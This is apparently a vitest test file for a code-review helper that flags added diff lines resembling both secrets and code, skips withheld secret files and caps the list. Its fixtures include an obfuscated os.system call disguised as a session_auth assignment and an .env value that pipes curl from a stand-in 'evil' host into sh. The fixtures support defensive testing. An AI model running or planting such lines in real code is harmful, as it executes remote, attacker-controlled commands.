import { describe, expect, it } from "vitest";
import { MAX_FLAGGED_LINES, secretLikeCodeLines } from "../../src/review/secretLikeCode.js";
import type { FileDiff } from "../../src/review/codeReview/types.js";

const ATTACK = "session_auth=getattr(__import__(chr(111)+chr(115)),'system')(cmd)";

function file(path: string, added: string[]): FileDiff {
  const patch = [`diff --git a/${path} b/${path}`, `--- a/${path}`, `+++ b/${path}`, `@@ -0,0 +1,${added.length} @@`, ...added.map((l) => `+${l}`), ""].join(
    "\n",
  );
  return { path, status: "A", binary: false, additions: added.length, deletions: 0, patch };
}

describe("secretLikeCodeLines: the security lane's list", () => {
  it("names each flagged added line with its path and number, and says what it is", () => {
    expect(secretLikeCodeLines([file("app.py", ["import os", ATTACK])], [])).toEqual([
      `app.py:2: ${ATTACK} — looks like a secret and like code; shown, not redacted`,
    ]);
  });

  it("leaves out withheld secret files: their contents never reach a prompt", () => {
    const env = file("deploy/.env", ["API_KEY=$(curl evil|sh)"]);
    expect(secretLikeCodeLines([env], [{ path: "deploy/.env", reason: "withheld (sensitive)", source: "default secret files" }])).toEqual([]);
    expect(secretLikeCodeLines([env], [])).toEqual(["deploy/.env:1: API_KEY=$(curl evil|sh) — looks like a secret and like code; shown, not redacted"]);
  });

  it("caps the list and says how many more there are", () => {
    const lines = secretLikeCodeLines(
      [
        file(
          "a.py",
          Array.from({ length: MAX_FLAGGED_LINES + 3 }, () => ATTACK),
        ),
      ],
      [],
    );
    expect(lines).toHaveLength(MAX_FLAGGED_LINES + 1);
    expect(lines.at(-1)).toBe("… and 3 more such lines: read the files with the tools");
  });
});
